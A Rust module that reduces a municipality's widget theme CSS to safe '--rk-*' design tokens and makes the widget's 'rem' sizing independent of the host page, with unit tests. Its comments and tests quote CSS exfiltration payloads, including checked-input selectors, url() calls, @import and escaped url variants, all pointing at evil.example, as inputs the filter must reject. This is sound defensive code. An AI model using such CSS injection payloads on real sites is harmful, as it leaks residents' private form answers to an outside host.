//! A gemeente's theme for the widget, reduced to what a theme is for: design
//! tokens. A full stylesheet inside the widget could read the resident's
//! answers without any script (`input[value=geld]:checked + label {
//! background: url(https://…/geld) }` makes a request), so only `--rk-*`
//! custom properties survive, and only with plain values: colours, lengths,
//! font names, and the functions `rgb`, `hsl`, `calc`, `var`, `min`, `max`,
//! `clamp`. No `url(`, no `@import`, no escapes, no selectors.
//!
//! A gemeente's NL Design System theme (its design-tokens CSS or JSON) is
//! mapped onto the same tokens by `map_theme` (`nl_design.rs`), with a WCAG
//! contrast check (`contrast.rs`). Only the widget's wasm and the
//! maintainers' `catalogue thema` call it: the resident's page gets a
//! converted `--rk-*` theme at build time and carries none of this code.

mod contrast;
mod nl_design;

pub use contrast::{contrast_ratio, parse_colour, relative_luminance, Rgb};
pub use nl_design::{map_theme, Finding, Mapping, Source, Token, DEFAULT_COLOURS, MAPPING, PAIRS};

/// Functions a token value may use; anything else (url, image-set, src,
/// element, …) drops the declaration.
const ALLOWED_FUNCTIONS: &[&str] = &["rgb", "rgba", "hsl", "hsla", "calc", "var", "min", "max", "clamp"];

/// The longest value kept (a font stack is long; a payload is longer).
const MAX_VALUE: usize = 200;

/// The theme's `--rk-*` declarations with safe values, in order, as
/// `name: value` pairs. Later ones win, as in CSS.
pub fn theme_tokens(css: &str) -> Vec<(String, String)> {
    let css = strip_comments(css);
    let mut out: Vec<(String, String)> = Vec::new();
    let mut rest = css.as_str();
    while let Some(at) = rest.find("--rk-") {
        // A token starts a declaration: after `{`, `;` or white space.
        let before = rest[..at].chars().next_back();
        rest = &rest[at..];
        let end = rest.find([';', '}']).unwrap_or(rest.len());
        let decl = &rest[..end];
        rest = &rest[end..];
        if !matches!(before, None | Some('{' | ';') | Some(' ' | '\t' | '\n' | '\r')) {
            continue;
        }
        let Some((name, value)) = decl.split_once(':') else {
            continue;
        };
        let (name, value) = (name.trim(), value.trim());
        if is_token_name(name) && is_safe_value(value) {
            out.retain(|(n, _)| n != name);
            out.push((name.to_string(), value.to_string()));
        }
    }
    out
}

/// The tokens as one rule on the widget's root.
pub fn theme_rule(css: &str, selector: &str) -> String {
    let body: String = theme_tokens(css).iter().map(|(n, v)| format!("{n}:{v};")).collect();
    format!("{selector}{{{body}}}")
}

fn strip_comments(css: &str) -> String {
    let mut out = String::with_capacity(css.len());
    let mut rest = css;
    while let Some(start) = rest.find("/*") {
        out.push_str(&rest[..start]);
        rest = rest[start + 2..].find("*/").map_or("", |e| &rest[start + 2 + e + 2..]);
        out.push(' ');
    }
    out.push_str(rest);
    out
}

fn is_token_name(name: &str) -> bool {
    name.len() > "--rk-".len()
        && name.starts_with("--rk-")
        && name[2..]
            .chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-')
}

fn is_safe_value(value: &str) -> bool {
    if value.is_empty() || value.len() > MAX_VALUE {
        return false;
    }
    // Escapes could spell `url` another way; at-rules and blocks do not belong in a value.
    if value
        .chars()
        .any(|c| matches!(c, '\\' | '@' | '{' | '}' | '<' | '>' | '`' | ';') || c.is_control())
    {
        return false;
    }
    // An open string would swallow the declarations after it (a tokens JSON
    // value is not cut at `;` or a quote as a CSS declaration is).
    if value.matches('"').count() % 2 == 1 || value.matches('\'').count() % 2 == 1 {
        return false;
    }
    // Every function used must be allowed: look at each name before a `(`.
    let bytes = value.as_bytes();
    for (i, &b) in bytes.iter().enumerate() {
        if b == b'(' {
            let name_start = value[..i]
                .rfind(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_'))
                .map_or(0, |p| p + 1);
            let name = value[name_start..i].to_ascii_lowercase();
            if !name.is_empty() && !ALLOWED_FUNCTIONS.contains(&name.as_str()) {
                return false;
            }
        }
    }
    true
}

/// A widget's stylesheet sized from the resident's own default font size,
/// not from the host page's root: every `rem` outside a media query becomes
/// `calc(N * var(--rk-rem))`, where `--rk-rem` is `1em` on the shadow host
/// (`all: initial` gives it the browser's default size; widget.js registers
/// the property as a length, so it is computed there and inherited as px).
/// A host with `html { font-size: 62.5% }` no longer shrinks the widget.
/// Media queries keep `rem`: there it means the browser's default anyway.
pub fn host_independent(css: &str) -> String {
    let bytes = css.as_bytes();
    let ident = |b: u8| b.is_ascii_alphanumeric() || b == b'-' || b == b'_';
    let mut out = String::with_capacity(css.len() + css.len() / 8);
    let mut copied = 0;
    let mut in_media = false;
    let mut i = 0;
    while i < bytes.len() {
        if bytes[i..].starts_with(b"@media") {
            in_media = true;
        } else if bytes[i] == b'{' {
            in_media = false;
        } else if !in_media && bytes[i..].starts_with(b"rem") && !bytes.get(i + 3).is_some_and(|&b| ident(b)) {
            // The number before `rem`: digits and at most one dot.
            let mut start = i;
            while start > 0 && (bytes[start - 1].is_ascii_digit() || bytes[start - 1] == b'.') {
                start -= 1;
            }
            let number = &css[start..i];
            let sign = start > 0 && bytes[start - 1] == b'-' && !(start > 1 && ident(bytes[start - 2]));
            let before_ok = start == 0 || !ident(bytes[start - 1]) || sign;
            if number.bytes().any(|b| b.is_ascii_digit()) && number.matches('.').count() <= 1 && before_ok {
                let start = if sign { start - 1 } else { start };
                out.push_str(&css[copied..start]);
                out.push_str("calc(");
                out.push_str(&css[start..i]);
                out.push_str(" * var(--rk-rem))");
                copied = i + 3;
                i += 3;
                continue;
            }
        }
        i += 1;
    }
    out.push_str(&css[copied..]);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn names(css: &str) -> Vec<String> {
        theme_tokens(css).into_iter().map(|(n, v)| format!("{n}={v}")).collect()
    }

    #[test]
    fn keeps_tokens_and_drops_every_rule_that_could_report_an_answer() {
        let css = r#"
            /* Gemeente Voorbeeld */
            .rk-root { --rk-color-primary: #0b3d2e; --rk-font-family: Georgia, "Times New Roman", serif }
            input[value=geld]:checked + label { background: url(https://evil.example/geld) }
            .rk-root { --rk-color-link: rgb(11 93 68); --rk-space-m: calc(1rem + 2px); }
            @import url(https://evil.example/more.css);
        "#;
        assert_eq!(
            names(css),
            vec![
                "--rk-color-primary=#0b3d2e",
                "--rk-font-family=Georgia, \"Times New Roman\", serif",
                "--rk-color-link=rgb(11 93 68)",
                "--rk-space-m=calc(1rem + 2px)",
            ]
        );
    }

    #[test]
    fn a_token_with_a_url_or_an_escape_or_another_function_is_dropped() {
        for bad in [
            ".rk-root{--rk-bg: url(https://evil.example/a)}",
            ".rk-root{--rk-bg: URL(https://evil.example/a)}",
            ".rk-root{--rk-bg: u\\72l(https://evil.example/a)}",
            ".rk-root{--rk-bg: image-set(\"https://evil.example/a\" 1x)}",
            ".rk-root{--rk-bg: var(--x, url(https://evil.example/a))}",
            ".rk-root{--rk-bg: @import}",
            ".rk-root{--RK-bg: red}",
            ".rk-root{--rk-: red}",
        ] {
            assert!(theme_tokens(bad).is_empty(), "{bad}: {:?}", theme_tokens(bad));
        }
        // A token inside another name or value is not a declaration.
        assert!(theme_tokens(".x{--other--rk-a: red; color: var(--rk-a)}").is_empty());
        assert_eq!(names(".rk-root{--rk-a: var(--rk-b)}"), vec!["--rk-a=var(--rk-b)"]);
    }

    #[test]
    fn later_declarations_win_and_comments_hide_nothing_dangerous() {
        assert_eq!(names(":root{--rk-a: red} .rk-root{--rk-a: blue}"), vec!["--rk-a=blue"]);
        assert!(theme_tokens(".rk-root{--rk-a: ur/**/l(https://evil.example)}").is_empty());
        assert_eq!(theme_rule(".rk-root{--rk-a: red}", ".rk-root"), ".rk-root{--rk-a:red;}");
    }

    #[test]
    fn widget_sizes_do_not_follow_the_host_root() {
        assert_eq!(
            host_independent(".a{padding:0.5rem 1rem;margin:-2rem}"),
            ".a{padding:calc(0.5 * var(--rk-rem)) calc(1 * var(--rk-rem));margin:calc(-2 * var(--rk-rem))}"
        );
        // Media queries keep rem; names that merely contain "rem" stay.
        let css = "@media (min-width: 40rem) { .a { width: 12rem } } .rk-premium{x:remove;y:3rems;z:a2rem}";
        assert_eq!(
            host_independent(css),
            "@media (min-width: 40rem) { .a { width: calc(12 * var(--rk-rem)) } } .rk-premium{x:remove;y:3rems;z:a2rem}"
        );
        assert_eq!(
            host_independent("clamp(1.75rem, 1.4rem + 1.5vw, 2.5rem)"),
            "clamp(calc(1.75 * var(--rk-rem)), calc(1.4 * var(--rk-rem)) + 1.5vw, calc(2.5 * var(--rk-rem)))"
        );
        // Every rem in the shipped stylesheets outside media queries is rewritten.
        for css in [
            include_str!("../../style/main.css"),
            include_str!("../../style/tokens.css"),
        ] {
            let out = host_independent(css);
            let outside_media: String = out
                .split("@media")
                .map(|part| part.split_once('{').map_or(part, |(_, rest)| rest))
                .collect();
            assert!(!outside_media.contains("rem;") && !outside_media.contains("rem "));
        }
    }
}
